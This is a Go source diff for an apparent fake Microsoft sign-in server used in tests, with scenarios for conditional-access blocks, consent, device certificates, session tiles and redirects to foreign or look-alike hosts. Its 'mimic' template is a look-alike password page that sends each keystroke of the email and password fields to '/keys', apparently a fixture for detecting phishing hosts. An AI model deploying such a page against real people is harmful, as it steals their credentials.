@@ -1,0 +1,139 @@
+package fakecloud
+
+import (
+	"html/template"
+	"net/http"
+	"regexp"
+	"strings"
+)
+
+// Pages that stand on other hosts than the sign-in itself.
+
+// headless is how a browser without a window calls itself; with one it names
+// its major version alone.
+var headless = regexp.MustCompile(`HeadlessChrome/([0-9]+)[0-9.]*`)
+
+// mimic is what a thief would show: it looks like the password page, and
+// sends every keystroke home at once.
+var mimic = template.Must(template.New("").Parse(`<!DOCTYPE html><html><head><title>Sign in to your account</title><meta name="PageID" content="ConvergedSignIn" /></head>
+<body><script>$Config={pgid:"ConvergedSignIn",sErrorCode:"50058"};</script><form method="post" action="/login"><div data-viewid="2"><div id="displayName">{{.}}</div>
+<input type="email" name="loginfmt" id="i0116" oninput="fetch('/keys?v='+encodeURIComponent(this.value))">
+<input type="password" name="passwd" id="i0118" oninput="fetch('/keys?v='+encodeURIComponent(this.value))">
+<input type="submit" id="idSIButton9" value="Sign in"></div></form></body></html>`))
+
+// elsewhere serves hosts that are no part of the sign-in, and false for those
+// that are.
+func (c *Cloud) elsewhere(w http.ResponseWriter, r *http.Request) bool {
+	w.Header().Set("Content-Type", "text/html; charset=utf-8")
+	switch hostOnly(r.Host) {
+	case LookAlikeHost:
+		_ = mimic.Execute(w, UserName)
+	case FrameHost:
+		writeText(w, `<!DOCTYPE html><html><head><title>Portal</title></head><body><h1>Welcome</h1><iframe style="width:600px;height:600px" src="https://`+LookAlikeHost+`/"></iframe></body></html>`)
+	case "login.live.com":
+		writeText(w, `<!DOCTYPE html><html><head><title>Sign in</title></head><body><div id="kmsiTitle">Microsoft account</div><input type="password" name="passwd" id="i0118"></body></html>`)
+	case "certauth.login.microsoftonline.com":
+		writeText(w, `<!DOCTYPE html><html><head><title>Sign in</title></head><body><p>Select a certificate</p></body></html>`)
+	case "device.login.microsoftonline.com":
+		writeHandOver(w, "https://login.microsoftonline.com/common/DeviceAuthTls/reprocess",
+			formField{"ctx", r.URL.Query().Get("request")}, formField{"flowtoken", r.URL.Query().Get("flowToken")})
+	default:
+		w.Header().Del("Content-Type")
+		return false
+	}
+	return true
+}
+
+func writeText(w http.ResponseWriter, text string) { _, _ = w.Write([]byte(text)) }
+
+// leadAway sends the browser to another host, as some scenarios want.
+func (c *Cloud) leadAway(w http.ResponseWriter, f *flow) bool {
+	away := map[string]string{
+		"foreign-host": "https://" + ADFSHost + "/adfs/ls/?wctx=" + f.ctx,
+		"look-alike":   "https://" + LookAlikeHost + "/" + TenantID + "/saml2",
+		"framed":       "https://" + FrameHost + "/",
+	}[c.opts.Scenario]
+	if away == "" {
+		return false
+	}
+	w.Header().Set("Location", away)
+	w.WriteHeader(http.StatusFound)
+	return true
+}
+
+// serveReprocess goes on after the device was asked for its certificate. Its
+// fields are the posted form's, with a lower-case t.
+func (c *Cloud) serveReprocess(w http.ResponseWriter, r *http.Request) {
+	if err := r.ParseForm(); err != nil {
+		http.Error(w, "bad form", http.StatusBadRequest)
+		return
+	}
+	f, err := c.flowOf(r, r.PostForm.Get("ctx"), r.PostForm.Get("flowtoken"))
+	if err != nil {
+		c.errorPage(w, err)
+		return
+	}
+	f.rotate()
+	f.proved["device"] = true
+	c.advance(w, r, f)
+}
+
+// interrupt serves the page that a scenario puts in front of the rest of a
+// sign-in, and false when there is none.
+func (c *Cloud) interrupt(w http.ResponseWriter, r *http.Request, f *flow) bool {
+	switch scenario := c.opts.Scenario; {
+	case scenario == "conditional-access":
+		c.page(w, f, "ConvergedConditionalAccess", fields{"sErrorCode": "53003"})
+	case scenario == "device-policy":
+		c.page(w, f, "ConvergedConditionalAccess", fields{"sErrorCode": "53000"})
+	case scenario == "device-browser" && strings.Contains(r.UserAgent(), "Headless"):
+		c.mu.Lock()
+		// The session is there; it is the browser that the policy does not take.
+		s := &signon{user: f.user, agent: headless.ReplaceAllString(r.UserAgent(), "Chrome/$1.0.0.0")}
+		for _, cookie := range c.sessionCookiesLocked(s) {
+			http.SetCookie(w, cookie)
+		}
+		c.mu.Unlock()
+		c.page(w, f, "ConvergedConditionalAccess", fields{"sErrorCode": "53000"})
+	case scenario == "change-password":
+		c.page(w, f, "ConvergedChangePassword", fields{"sErrorCode": "50055"})
+	case scenario == "consent":
+		c.page(w, f, "ConvergedConsent", nil)
+	case scenario == "terms-of-use":
+		c.page(w, f, "ConvergedTOU", nil)
+	case scenario == "device-login" && !f.proved["device"]:
+		w.Header().Set("Location", "https://device.login.microsoftonline.com/?request="+f.ctx+"&flowToken="+f.flowToken)
+		w.WriteHeader(http.StatusFound)
+	default:
+		return false
+	}
+	return true
+}
+
+// hangs is a server that takes a request and never answers.
+func (c *Cloud) hangs(r *http.Request) bool {
+	if c.opts.Scenario != "hangs" || !strings.HasSuffix(r.URL.Path, "/saml2") {
+		return false
+	}
+	<-r.Context().Done()
+	return true
+}
+
+// comeBack serves the way back from the page that asks for a passkey, and the
+// tiles of sessions that a scenario has, and false for other requests.
+func (c *Cloud) comeBack(w http.ResponseWriter, r *http.Request, f *flow) bool {
+	query := r.URL.Query()
+	names := map[string]string{"1": "grace@contoso.example", "2": "linus@contoso.example"}
+	switch user := c.user(names[query.Get("sessionid")]); {
+	case query.Has("passkey") && f.proved["password"]:
+		c.strongPage(w, f)
+	case query.Has("passkey"):
+		c.page(w, f, "ConvergedSignIn", fields{"passkeyDeclined": true, "sErrorCode": "50058"})
+	case c.opts.Scenario == "tile-signed-in" && user != nil:
+		f.user, f.proved = user, map[string]bool{"password": true, "mfa": true, "kmsi": true}
+		c.advance(w, r, f)
+	default:
+		return false
+	}
+	return true
+}
